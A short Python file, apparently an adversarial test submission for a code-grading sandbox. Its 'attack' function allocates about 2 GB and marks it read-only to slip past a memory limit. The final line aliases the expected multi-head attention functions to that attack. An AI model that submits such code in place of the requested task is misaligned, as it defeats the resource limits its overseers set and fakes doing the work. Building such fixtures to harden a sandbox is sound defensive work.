"""Hides memory from its limit by making it read-only."""

import ctypes
import mmap


def attack(*args, **kwargs):
    libc = ctypes.CDLL(None)
    hoard = []
    for _ in range(60):
        block = mmap.mmap(-1, 1 << 25, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        block.write(b"x" * (1 << 25))
        address = ctypes.addressof(ctypes.c_char.from_buffer(block))
        assert libc.mprotect(ctypes.c_void_p(address), 1 << 25, 1) == 0
        hoard.append(block)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
